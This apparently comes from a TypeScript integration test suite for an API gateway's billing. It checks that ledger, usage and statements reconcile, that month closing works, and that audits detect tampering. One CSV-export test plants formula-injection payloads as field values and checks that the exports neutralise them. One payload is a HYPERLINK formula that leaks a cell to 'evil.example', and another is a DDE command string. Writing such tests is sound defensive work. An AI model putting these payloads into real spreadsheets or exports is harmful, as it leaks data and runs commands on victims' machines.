import { expect } from 'chai';
import OpenAI from 'openai';
import { allProjections } from '../../projections';
import { runAudit } from '../../src/audit/audit';
import { recomputePricing } from '../../src/billing/money';
import { READ_MODEL_SCHEMA } from '../../src/projections-runtime/consumer';
import { rebuildProjections } from '../../src/projections-runtime/rebuild';
import { startTestGateway, type TestGateway } from '../support/gateway';
import { units } from '../support/pricing';
import { column, readAsSpreadsheet, sum } from '../support/spreadsheet-csv';
import { expectSettledAndAuditClean } from '../support/wait';

type Entry = { sequence: number; type: string; amount: number; key_id: string | null; model: string | null; endpoint: string | null; request_id: string | null; task_id: string | null; pricing: any; reservation_id: string | null };

/** The finance reader's side: the ledger with its why, usage totals and statements, all reconciling. */
describe('ledger, usage and statements reconcile @integration', () => {
  let gw: TestGateway;
  before(async () => {
    gw = await startTestGateway();
  });
  after(async () => gw.close());

  async function ledgerOf(key: string, query = ''): Promise<Entry[]> {
    const entries: Entry[] = [];
    for (let after: string | null = null; ; ) {
      const page = await gw.api(key, 'GET', `/v1/account/ledger?limit=3${query}${after ? `&after=${after}` : ''}`);
      expect(page.status, JSON.stringify(page.body)).to.equal(200);
      entries.push(...page.body.data);
      if (!page.body.has_more) return entries;
      after = page.body.next_after;
    }
  }

  it('a mixed workload: every entry names its why, and usage and the statement equal the ledger sums', async () => {
    const { accountId, key, keyId } = await gw.fundedAccount(1_000_000_000);
    const second = await gw.admin('POST', `/admin/v1/accounts/${accountId}/keys`, { name: 'batch' });
    const client = new OpenAI({ apiKey: key, baseURL: `${gw.url}/v1`, maxRetries: 0 });
    const other = new OpenAI({ apiKey: second.body.key, baseURL: `${gw.url}/v1`, maxRetries: 0 });

    const { response } = await client.chat.completions.create({ model: 'chat-fast', messages: [{ role: 'user', content: 'hi [sim:tokens=5]' }] }).withResponse();
    await other.chat.completions.create({ model: 'chat-fast', messages: [{ role: 'user', content: 'hello [sim:tokens=7]' }] });
    await client.images.generate({ model: 'image-5.0', prompt: 'a lighthouse', n: 1, size: '2048x2048' });
    const video = await gw.api(second.body.key, 'POST', '/v1/videos/generations', { model: 'video-ref-2.0', content: [{ type: 'text', text: 'a cat' }], duration: 4 });
    expect(video.status).to.equal(200);
    await expectSettledAndAuditClean(gw, [key]);

    const [chatSettlement] = await ledgerOf(key, `&type=settlement&key_id=${keyId}&model=chat-fast`);
    expect(chatSettlement).to.deep.include({ key_id: keyId, model: 'chat-fast', endpoint: 'POST /v1/chat/completions', request_id: response.headers.get('x-request-id'), task_id: null });
    expect(chatSettlement!.pricing.lines[0].units).to.have.keys(['input_tokens', 'output_tokens']);
    const refund = await gw.admin('POST', `/admin/v1/accounts/${accountId}/refunds`, { reservation_id: chatSettlement!.reservation_id, amount: 1, reference: 'goodwill', reason: 'goodwill' });
    expect(refund.status).to.equal(201);

    const entries = await ledgerOf(key);
    expect(new Set(entries.map((e) => e.sequence)).size, 'pages neither repeat nor skip').to.equal(entries.length);
    const settlements = entries.filter((e) => e.type === 'settlement');
    expect(settlements).to.have.length(4);
    for (const s of settlements) expect(recomputePricing(s.pricing), `${s.model} recomputes from its units`).to.equal(s.amount);
    const videoSettlement = settlements.find((s) => s.model === 'video-ref-2.0')!;
    expect(videoSettlement).to.deep.include({ key_id: second.body.id, endpoint: 'POST /v1/videos/generations', task_id: video.body.id, request_id: null });
    expect(videoSettlement.pricing.lines[0].units).to.deep.equal({ seconds: 4 });
    expect((await ledgerOf(key, `&key_id=${second.body.id}`)).every((e) => e.key_id === second.body.id)).to.equal(true);
    expect(await ledgerOf(key, '&from=2999-01-01T00:00:00Z')).to.deep.equal([]);
    expect((await gw.api(key, 'GET', '/v1/account/ledger?after=12')).status, 'the cursor is opaque').to.equal(400);
    expect((await gw.api(key, 'GET', '/v1/account/ledger?from=yesterday')).body.error.param).to.equal('from');

    const charged = settlements.reduce((s, e) => s + e.amount, 0);
    const refunded = entries.filter((e) => e.type === 'refund').reduce((s, e) => s + e.amount, 0);
    const usage = await gw.api(key, 'GET', '/v1/usage');
    expect(usage.body.total).to.deep.include({ requests: 4, charged, refunded, amount: charged - refunded });
    const byModelKey = await gw.api(key, 'GET', '/v1/usage?group_by=model,key');
    for (const model of ['chat-fast', 'image-5.0', 'video-ref-2.0']) {
      const ledgerSum = settlements.filter((e) => e.model === model).reduce((s, e) => s + e.amount, 0) - entries.filter((e) => e.type === 'refund' && e.model === model).reduce((s, e) => s + e.amount, 0);
      const usageSum = byModelKey.body.data.filter((g: any) => g.model === model).reduce((s: number, g: any) => s + g.amount, 0);
      expect(usageSum, model).to.equal(ledgerSum);
    }
    expect(byModelKey.body.data.find((g: any) => g.model === 'chat-fast' && g.key_id === keyId).units).to.have.keys(['input_tokens', 'output_tokens']);
    const byDay = await gw.api(key, 'GET', '/v1/usage?group_by=day');
    expect(byDay.body.data.map((g: any) => g.amount).reduce((a: number, b: number) => a + b, 0)).to.equal(charged - refunded);
    const admin = await gw.admin('GET', `/admin/v1/usage?group_by=account_id&account_id=${accountId}`);
    expect(admin.body.data).to.have.length(1);
    expect(admin.body.data[0]).to.deep.include({ account_id: accountId, amount: charged - refunded });
    expect((await gw.api(key, 'GET', '/v1/usage?group_by=account_id')).status).to.equal(400);

    const month = byDay.body.data[0].day.slice(0, 7);
    const statement = (await gw.api(key, 'GET', `/v1/account/statements/${month}`)).body;
    expect(statement).to.deep.include({ month, timezone: 'Asia/Shanghai', opening_balance: 0, credits: 1_000_000_000, refunds: refunded, closed: false });
    expect(statement.charges.total).to.equal(charged);
    expect(statement.closing_balance).to.equal(statement.opening_balance + statement.credits - statement.charges.total + statement.refunds);
    expect(statement.closing_balance).to.equal((await gw.balance(key)).available);
    expect(statement.charges.by_model.reduce((s: number, m: any) => s + m.amount, 0)).to.equal(charged);
    expect((await gw.admin('GET', `/admin/v1/accounts/${accountId}/statements/${month}`)).body).to.deep.equal(statement);

    const csv = await fetch(`${gw.url}/v1/account/ledger`, { headers: { authorization: `Bearer ${key}`, accept: 'text/csv' } });
    expect(csv.headers.get('content-type')).to.equal('text/csv; charset=utf-8');
    const bytes = Buffer.from(await csv.arrayBuffer());
    expect([...bytes.subarray(0, 3)], 'UTF-8 with a byte-order mark').to.deep.equal([0xef, 0xbb, 0xbf]);
    const csvLines = bytes.subarray(3).toString('utf8').split('\r\n').filter(Boolean);
    expect(csvLines[0]!.startsWith('sequence,created_at,type,amount_minor,amount_yuan')).to.equal(true);
    expect(csvLines).to.have.length(entries.length + 1);
    expect(csvLines[1]).to.contain(',credit,1000000000,1000.000000,');
    const statementCsv = await gw.api(key, 'GET', `/v1/account/statements/${month}?format=csv`);
    const rows = (statementCsv.body as string).split('\r\n').filter(Boolean);
    expect(rows.at(-1)!.split(',').slice(-3, -1)).to.deep.equal([String(statement.closing_balance), (statement.closing_balance / 1e6).toFixed(6)]);
    expect(rows).to.have.length(1 + 1 + 1 + 4 + 1 + 1); // header, opening, credit, 4 charges, refund, closing
    await gw.expectAuditClean();
  });

  it('CSV exports: text a client or operator wrote runs nothing in a spreadsheet, and the amounts sum there to the totals', async () => {
    const { accountId, key } = await gw.fundedAccount(1_000_000);
    const reference = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")';
    const note = "=cmd|' /C calc'!A0";
    const credit = await gw.admin('POST', `/admin/v1/accounts/${accountId}/credits`, { amount: 500_000, reference, note });
    expect(credit.status, JSON.stringify(credit.body)).to.equal(201);
    const chat = await gw.api(key, 'POST', '/v1/chat/completions', { model: 'chat-fast', messages: [{ role: 'user', content: 'hi [sim:tokens=5]' }] }, { 'x-request-id': '-2-3' });
    expect(chat.status, JSON.stringify(chat.body)).to.equal(200);
    await expectSettledAndAuditClean(gw, [key]);
    const [settlement] = await ledgerOf(key, '&type=settlement');
    expect(settlement!.request_id).to.equal('-2-3');
    const refund = await gw.admin('POST', `/admin/v1/accounts/${accountId}/refunds`, { reservation_id: settlement!.reservation_id, amount: 1, reference: '+1+1', reason: '@SUM(1+1)' });
    expect(refund.status, JSON.stringify(refund.body)).to.equal(201);
    const entries = await ledgerOf(key);

    const ledger = readAsSpreadsheet((await gw.api(key, 'GET', '/v1/account/ledger?format=csv')).body as string);
    expect(ledger.flat().filter((cell) => cell.kind === 'formula'), 'cells a spreadsheet would run').to.deep.equal([]);
    expect(column(ledger, 'reference')).to.deep.include.members([{ kind: 'text', text: `'${reference}` }, { kind: 'text', text: "'+1+1" }]);
    expect(column(ledger, 'request_id')).to.deep.include({ kind: 'text', text: "'-2-3" });
    expect(ledger).to.have.length(entries.length + 1);
    const total = entries.reduce((s, e) => s + e.amount, 0);
    expect(sum(column(ledger, 'amount_minor'))).to.equal(total);
    expect(sum(column(ledger, 'amount_yuan'))).to.be.closeTo(total / 1_000_000, 1e-9);

    const month = (await gw.api(key, 'GET', '/v1/usage?group_by=day')).body.data[0].day.slice(0, 7);
    const statement = (await gw.api(key, 'GET', `/v1/account/statements/${month}`)).body;
    const sheet = readAsSpreadsheet((await gw.api(key, 'GET', `/v1/account/statements/${month}?format=csv`)).body as string);
    expect(sheet.flat().filter((cell) => cell.kind === 'formula'), 'cells a spreadsheet would run').to.deep.equal([]);
    expect(column(sheet, 'note')).to.deep.include.members([{ kind: 'text', text: `'${note}` }, { kind: 'text', text: "'@SUM(1+1)" }]);
    const types = column(sheet, 'type');
    const amountsOf = (type: string) => sum(column(sheet, 'amount_minor').filter((_, i) => types[i]!.kind === 'text' && types[i]!.text === type));
    expect([amountsOf('credit'), amountsOf('charge'), amountsOf('refund')]).to.deep.equal([statement.credits, statement.charges.total, statement.refunds]);
    expect(column(sheet, 'balance_minor').at(-1)).to.deep.equal({ kind: 'number', value: statement.closing_balance });
    expect(column(sheet, 'balance_yuan').at(-1)).to.deep.equal({ kind: 'number', value: statement.closing_balance / 1_000_000 });
  });
});

describe('statements close with their month @integration', () => {
  let gw: TestGateway;
  let now = new Date('2026-01-31T15:00:00Z'); // 23:00 on 31 January in Shanghai
  before(async () => {
    gw = await startTestGateway({}, { clock: () => now });
  });
  after(async () => gw.close());

  const purpose = (ref: string) => ({ kind: 'request' as const, ref, description: 'chat-fast', actor: 'system', model: 'chat-fast', endpoint: 'test' });

  it('a closed month never changes: a late refund lands in the month it is recorded; closing equals the next opening', async () => {
    const { accountId, key } = await gw.fundedAccount(1000);
    const reservation = await gw.accounts.reserve({ accountId, amount: 400, purpose: purpose('jan'), ttlMs: 60_000 });
    await gw.accounts.settle(accountId, reservation, units(300), {});
    const open = (await gw.api(key, 'GET', '/v1/account/statements/2026-01')).body;
    expect(open).to.deep.include({ closed: false, starts_at: '2025-12-31T16:00:00.000Z', ends_at: '2026-01-31T16:00:00.000Z', opening_balance: 0, credits: 1000, refunds: 0, closing_balance: 700 });

    now = new Date('2026-01-31T16:30:00Z'); // 00:30 on 1 February in Shanghai: January has ended
    const january = await gw.api(key, 'GET', '/v1/account/statements/2026-01?format=csv');
    const closed = (await gw.api(key, 'GET', '/v1/account/statements/2026-01')).body;
    expect(closed).to.deep.equal({ ...open, closed: true });

    const refund = await gw.admin('POST', `/admin/v1/accounts/${accountId}/refunds`, { reservation_id: reservation, amount: 100, reference: 'late', reason: 'late goodwill' });
    expect(refund.status).to.equal(201);
    expect((await gw.api(key, 'GET', '/v1/account/statements/2026-01')).body).to.deep.equal(closed);
    expect((await gw.api(key, 'GET', '/v1/account/statements/2026-01?format=csv')).body).to.equal(january.body);
    const february = (await gw.api(key, 'GET', '/v1/account/statements/2026-02')).body;
    expect(february).to.deep.include({ opening_balance: closed.closing_balance, credits: 0, refunds: 100, closing_balance: 800, closed: false });
    expect(february.charges).to.deep.equal({ total: 0, overrun: 0, by_model: [] });

    // A zone change applies from the month not yet closed: February keeps its start and ends in UTC.
    const changed = await gw.api(key, 'PATCH', '/v1/account/settings', { timezone: 'UTC' });
    expect(changed.status, JSON.stringify(changed.body)).to.equal(200);
    expect(changed.body.settings).to.deep.equal({ default_video_url_mode: 'auto', timezone: 'UTC' });
    expect((await gw.api(key, 'GET', '/v1/account/statements/2026-02')).body).to.deep.include({ timezone: 'UTC', starts_at: '2026-01-31T16:00:00.000Z', ends_at: '2026-03-01T00:00:00.000Z' });
    expect((await gw.api(key, 'GET', '/v1/account/statements/2026-03')).body).to.deep.include({ timezone: 'UTC', starts_at: '2026-03-01T00:00:00.000Z', opening_balance: 800, closing_balance: 800 });
    expect((await gw.api(key, 'GET', '/v1/account/statements/2026-01')).body).to.deep.equal(closed);
    const byDay = await gw.api(key, 'GET', '/v1/usage?group_by=day');
    expect(byDay.body.data.map((g: any) => [g.day, g.amount])).to.deep.equal([
      ['2026-01-31', 300],
      ['2026-02-01', -100],
    ]);

    expect((await gw.api(key, 'PATCH', '/v1/account/settings', { timezone: 'Mars/Olympus' })).body.error.param).to.equal('timezone');
    expect((await gw.admin('PATCH', `/admin/v1/accounts/${accountId}`, { timezone: 'Europe/Berlin' })).body.settings.timezone).to.equal('Europe/Berlin');
    expect((await gw.api(key, 'GET', '/v1/account/statements/2026-13')).status).to.equal(404);
    await gw.expectAuditClean();
  });
});

describe('the audit covers usage and pricing @integration', () => {
  let gw: TestGateway;
  before(async () => {
    gw = await startTestGateway();
  });
  after(async () => gw.close());

  const purpose = { kind: 'request' as const, ref: 'req_x', description: 'image-5.0', actor: 'system', model: 'image-5.0', endpoint: 'test' };

  it('notices a usage record that differs from the log; a rebuild from the log repairs it', async () => {
    const { accountId } = await gw.fundedAccount(5000);
    const r = await gw.accounts.reserve({ accountId, amount: 300, purpose, ttlMs: 60_000 });
    await gw.accounts.settle(accountId, r, units(120), {});
    await gw.accounts.reports.usage({ accountId, from: null, to: null, groupBy: [] });
    await gw.pool.query(`UPDATE ${READ_MODEL_SCHEMA}.usage_records SET amount = amount + 1 WHERE account_id = $1 AND entry_type = 'charge'`, [accountId]);
    const report = await runAudit(gw.pool, gw.store, allProjections, { staleAfterMs: 3_600_000 });
    expect(report.mismatches).to.deep.equal(['usage: 2 row(s) of usage_records differ from a replay of the log']);
    await rebuildProjections(gw.pool, gw.store, allProjections, READ_MODEL_SCHEMA, gw.logger);
    await gw.expectAuditClean();
  });

  it('reports a settlement in the log whose amount does not follow from its pricing', async () => {
    const { accountId } = await gw.fundedAccount(5000);
    const at = new Date().toISOString();
    const context = { actor: 'system', model: 'image-5.0', endpoint: 'test', kind: 'request', ref: 'req_x' };
    const forged = { amount: 10, lines: [{ units: { images: 1 }, unit_prices: { images: 5 }, per: 1, amount: 10 }] };
    await gw.store.append(
      `account-${accountId}`,
      [
        { type: 'FundsReserved', data: { reservationId: 'rsv_forged', amount: 10, purpose, expiresAt: at, at } },
        { type: 'ReservationSettled', data: { reservationId: 'rsv_forged', amount: 10, reservedAmount: 10, overrun: 0, usage: {}, context, pricing: forged, at } },
      ],
      { expectedVersion: 'any' },
    );
    expect(await gw.accounts.awaitLedger(accountId), 'the ledger views caught up').to.equal(true);
    const report = await runAudit(gw.pool, gw.store, allProjections, { staleAfterMs: 3_600_000 });
    expect(report.invariantViolations, JSON.stringify(report)).to.have.length(1);
    expect(report.invariantViolations[0]).to.match(/settlement of 10 does not follow from its pricing \(a pricing line states 10 where its units and prices come to 5\)/);
  });
});
